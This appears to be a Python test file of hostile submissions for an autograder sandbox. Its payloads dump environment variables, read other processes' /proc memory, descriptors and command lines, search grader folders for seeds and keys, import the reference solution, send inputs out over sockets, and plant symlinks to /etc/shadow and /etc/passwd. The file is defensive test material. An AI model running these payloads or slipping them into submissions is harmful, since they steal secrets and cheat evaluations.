"""Submissions that look for secrets and try to get them into a result."""

# ruff: noqa: E501  (payloads)
from __future__ import annotations

from tests.hostile.generator.kinds import kinds
from tests.hostile.generator.payloads import behind, in_forward, leaking

KINDS = kinds(
    "leak",
    environment_of_others=leaking(
        """
        import os
        FOUND.append(repr(dict(os.environ)))
        for pid in [name for name in range(1, 70000) if os.path.exists(f"/proc/{name}")][:400] + [os.getppid(), "self"]:
            for what in ("environ", "cmdline", "maps", "status"):
                look(f"/proc/{pid}/{what}")
        """
    ),
    memory_of_others=leaking(
        """
        import os
        for pid in (os.getppid(), 1):
            try:
                with open(f"/proc/{pid}/mem", "rb") as file:
                    file.seek(0x7ffff0000000); FOUND.append(file.read(4096).decode("latin-1"))
            except Exception:
                pass
        """
    ),
    descriptors_of_others=leaking(
        """
        import os
        for pid in [os.getppid(), 1, "self"]:
            for fd in range(64):
                try:
                    FOUND.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
                except Exception:
                    pass
                if pid != "self":
                    look(f"/proc/{pid}/fd/{fd}")
        """
    ),
    files_of_the_grader=leaking(
        """
        import os, sys
        roots = ["/work", "/root", "/home", "/tmp", "/var/tmp", "/grader", "/autograder", "/opt", *sys.path, os.getcwd(), os.path.join(os.getcwd(), "..", "..")]
        count = 0
        for root in roots:
            for folder, folders, files in os.walk(root or "."):
                folders[:] = [name for name in folders if name not in ("torch", "numpy", "pandas", "matplotlib")][:50]
                for name in files[:200]:
                    if name.endswith((".seed", ".yaml", ".json", ".env", ".ipynb", ".txt", ".pth", ".key")) or "seed" in name or "secret" in name:
                        look(os.path.join(folder, name)); count += 1
                if count > 3000: break
        """
    ),
    imports_the_reference=leaking(
        """
        import sys
        for name in ("reference", "reference.transformer", "grader", "grader.homework3.oracles", "grader._shipped.reference"):
            try:
                exec(f"from {name} import *")
                FOUND.append("oracle imported " + name)
            except BaseException:
                pass
        for root in ("<checkout>", "/grader", "/autograder/source", *[path + "/.." for path in sys.path]):
            sys.path.insert(0, root)
        try:
            import grader.grade, reference.transformer
            FOUND.append("oracle imported")
            globals().update(vars(reference.transformer))
        except BaseException:
            pass
        """
    ),
    walks_the_heap=leaking(
        """
        import gc, sys
        for thing in gc.get_objects()[:500000]:
            if isinstance(thing, dict):
                for value in list(thing.values())[:200]:
                    if type(value) in (str, bytes) and b"planted" in (value.encode("utf-8", "replace") if type(value) is str else value):
                        FOUND.append(repr(value)[:500])
        """
    ),
    own_memory=leaking(
        """
        import re
        needle = b"planted" + b"-secret"
        budget = 300 << 20
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as mem:
            for line in maps:
                match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if match and budget > 0:
                    start, end = (int(group, 16) for group in match.groups())
                    size = min(end - start, 32 << 20, budget); budget -= size
                    try:
                        mem.seek(start); data = mem.read(size)
                    except Exception:
                        continue
                    for hit in list(re.finditer(needle + rb"-7f3a91c2-[0-9a-f]{8}", data))[:3]:
                        FOUND.append(hit[0].decode())
        """
    ),
    arguments_and_parents=leaking(
        """
        import os, sys
        FOUND.append("seed? " + repr(sys.argv) + repr(sys.orig_argv))
        for pid in range(1, 3000):
            look(f"/proc/{pid}/cmdline")
        """
    ),
    connection_file=leaking(
        """
        import os
        for folder in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp"):
            try:
                for name in os.listdir(folder):
                    look(os.path.join(folder, name))
            except Exception:
                pass
        """
    ),
    sends_inputs_away=in_forward(
        """
        import socket
        def answer(original, self, args, kwargs):
            for family, address in ((socket.AF_INET, ("127.0.0.1", 9)), (socket.AF_INET, ("192.0.2.1", 9)), (socket.AF_UNIX, "/tmp/hw3-hostile-trace.sock")):
                try:
                    with socket.socket(family, socket.SOCK_STREAM) as out:
                        out.settimeout(0.1); out.connect(address); out.send(repr(args).encode())
                        raise RuntimeError("hw3-" + "breached")
                except OSError:
                    pass
            return run(original, self, args, kwargs)
        """
    ),
    names_lookup=leaking(
        """
        import socket
        for name in ("localhost", "example.invalid"):
            try:
                FOUND.append("seed " + repr(socket.getaddrinfo(name, 80)))
            except Exception:
                pass
        """
    ),
    inputs_in_the_message=in_forward(
        """
        def answer(original, self, args, kwargs):
            raise ValueError("inputs: " + repr(args)[:100000])
        """
    ),
    writes_for_the_next=behind(
        """
        import os
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.path.expanduser("~"), "..", "/", *__import__("sys").path):
            try:
                with open(os.path.join(folder, "hw3-hostile-trace.txt"), "w") as file:
                    file.write("x")
            except OSError:
                pass
            try:
                os.mkdir(os.path.join(folder, "hw3-hostile-trace.d"))
            except OSError:
                pass
        """
    ),
    reads_what_the_last_left=leaking(
        """
        import glob
        for path in glob.glob("/tmp/*") + glob.glob("/dev/shm/*") + glob.glob("/var/tmp/*") + glob.glob("/run/lock/*/*"):
            look(path)
        """
    ),
    links_in_the_folder=behind(
        """
        import os
        for name, target in (("input.txt", "/etc/shadow"), ("link", "/"), ("../connection.json", "/etc/passwd"), ("../tmp/x", "/root")):
            try:
                if os.path.lexists(name): os.remove(name)
                os.symlink(target, name)
            except OSError:
                pass
        """
    ),
)

# Payloads say `getattr(os, "_exit")` and the like: statements that end the kernel or run a shell are left out of what runs.
